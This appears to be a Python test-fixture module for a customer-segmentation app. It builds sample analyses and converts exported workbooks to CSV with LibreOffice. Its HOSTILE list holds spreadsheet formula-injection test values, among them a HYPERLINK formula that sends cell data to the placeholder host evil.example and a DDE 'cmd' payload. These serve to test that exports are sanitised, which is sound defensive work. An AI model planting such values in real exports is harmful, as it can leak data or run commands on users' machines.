"""Hand-built Analysis objects for the export tests (no import or segmentation needed)."""

from __future__ import annotations

import subprocess
from pathlib import Path

import numpy as np
import pandas as pd

from segmenter_app.core import schema as s
from segmenter_app.core.analysis import Analysis, InputFile, RowAccount, Segmentation

SEGMENTS = [
    ("rfm:champions", "Champions"),
    ("rfm:loyal", "Loyal"),
    ("rfm:at_risk", "At risk"),
    ("rfm:hibernating", "Hibernating"),
    ("rfm:empty", "Nobody here"),
]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+33 6 12 34 56 78",
    "@SUM(1)",
    "-2+3",
    "\uff1dcmd|' /C calc'!A0",
    "\tTabbed",
    "\rCarriage",
    "  =1+1",
    "bell\x07and\x00nul\x1bescape",
    "x" * 40_000,
    "_x0041_ literal escape",
    "Zoé <b>&amp;</b>",
]


def make_analysis(n: int = 60, *, lang: str = "en", hostile: bool = False, seed: int = 1) -> Analysis:
    """An analysis with ``n`` customers over four non-empty segments and one empty one."""
    rng = np.random.default_rng(seed)
    ids = [f"C{i:05d}" for i in range(n)]
    as_of = pd.Timestamp("2024-06-30")
    frequency = rng.integers(1, 20, n)
    monetary = np.round(rng.gamma(2.0, 120.0, n), 2)
    recency = rng.integers(0, 700, n)
    last = as_of - pd.to_timedelta(recency, unit="D")
    first = last - pd.to_timedelta(rng.integers(0, 500, n), unit="D")
    first_names = [f"Prénom{i}" for i in range(n)]
    last_names = [f"Nom{i}" for i in range(n)]
    emails = [f"client{i}@example.fr" if i % 5 else None for i in range(n)]
    phones = [f"+33 6 00 00 {i:04d}" if i % 3 == 0 else None for i in range(n)]
    if hostile:
        for index, text in enumerate(HOSTILE):
            if index < n:
                first_names[index] = text
                last_names[(index * 7) % n] = text
    customers = pd.DataFrame(
        {
            s.C_RECENCY: recency,
            s.C_FREQUENCY: frequency,
            s.C_MONETARY: monetary,
            s.C_AVG_BASKET: np.round(monetary / frequency, 2),
            s.C_FIRST: first,
            s.C_LAST: last,
            s.C_TENURE: (as_of - first).days,
            s.C_RETURNS_SHARE: np.round(rng.random(n) * 0.2, 3),
            s.FIRST_NAME: first_names,
            s.LAST_NAME: last_names,
            s.EMAIL: emails,
            s.PHONE: phones,
            s.CITY: rng.choice(["Lyon", "Paris", "Villeurbanne"], n),
            s.C_CONTACTABLE: [e is not None for e in emails],
            s.OPT_OUT: [i % 11 == 0 for i in range(n)],
        },
        index=pd.Index(ids, name=s.CUSTOMER_ID),
    )
    keys = [SEGMENTS[i % 4][0] for i in range(n)]
    reasons = [f"R={1 + i % 5}, F={1 + (i * 3) % 5}" for i in range(n)]
    if hostile:
        reasons[0] = "=1+2"
    assignments = pd.DataFrame(
        {s.A_SEGMENT: keys, s.A_REASON: reasons, s.A_CONTROL: [i % 10 == 0 for i in range(n)]},
        index=customers.index,
    )
    segments = pd.DataFrame({"key": [k for k, _ in SEGMENTS], "name": [name for _, name in SEGMENTS]})
    if hostile:
        segments.loc[1, "name"] = "Loyal: [best]/*?"
    segmentation = Segmentation(
        method="rfm",
        parameters={"small_data": False},
        assignments=assignments,
        segments=segments,
        details={"cut_points": {"recency": [30, 90, 180, 365], "frequency": [1, 2, 4, 8]}},
    )
    excluded = pd.DataFrame(
        {
            "source": [0, 0, 0],
            "source_row": [5, 9, 12],
            "reason": ["no_customer_id", "cancellation", "zero_price"],
            "Client": [None, "C00001", "=EVIL()"],
            "Montant": ["12,50", "-3,00", "0"],
        }
    )
    account = RowAccount(
        read=100, kept=97, excluded={"no_customer_id": 1, "cancellation": 1, "zero_price": 1}
    )
    analysis = Analysis(
        lang=lang,
        inputs=[
            InputFile(
                path="/nonexistent/ventes.csv",
                format="csv",
                fingerprint="0" * 64,
                rows_read=100,
                mapping={"Client": s.CUSTOMER_ID, "Montant": s.AMOUNT, "Email": s.EMAIL},
                account=account,
            )
        ],
        excluded=excluded,
        account=account,
        as_of=as_of,
        customers=customers,
        segmentation=segmentation,
    )
    analysis.plans = {
        key: {
            "persona": f"Portrait of {name}",
            "objective": f"Keep {name} buying",
            "message": "=Thank you",
            "offer": "Free delivery",
            "channel": "email",
            "timing": "next week",
            "kpi": "repeat rate",
            "avoid": "discounts",
            "cost_per_contact": 0.5,
            "response_rate": 0.08,
            "expected_revenue": 1234.5,
            "budget": 100.0,
            "roi": 2.5,
            "priority": i + 1,
            "control_share": 0.1,
        }
        for i, (key, name) in enumerate(SEGMENTS[:4])
    }
    return analysis


def libreoffice_csv(workbook: Path, folder: Path, *, formatted: bool) -> list[str]:
    """Convert every sheet of ``workbook`` to UTF-8 CSV files in ``folder`` with LibreOffice (as
    someone without Excel opens it), raw values or values as formatted; return the file names.
    The caller skips when ``soffice`` is absent."""
    profile = folder.parent / "lo-profile"
    # Token 9 is "save cell contents as shown" (token 8, special numbers, only acts on import).
    options = f"44,34,76,1,,0,false,false,{'true' if formatted else 'false'},false,false,-1"
    result = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            f"csv:Text - txt - csv (StarCalc):{options}",  # UTF-8, every sheet (-1)
            "--outdir",
            str(folder),
            str(workbook),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert result.returncode == 0, result.stderr
    return sorted(p.name for p in folder.iterdir())
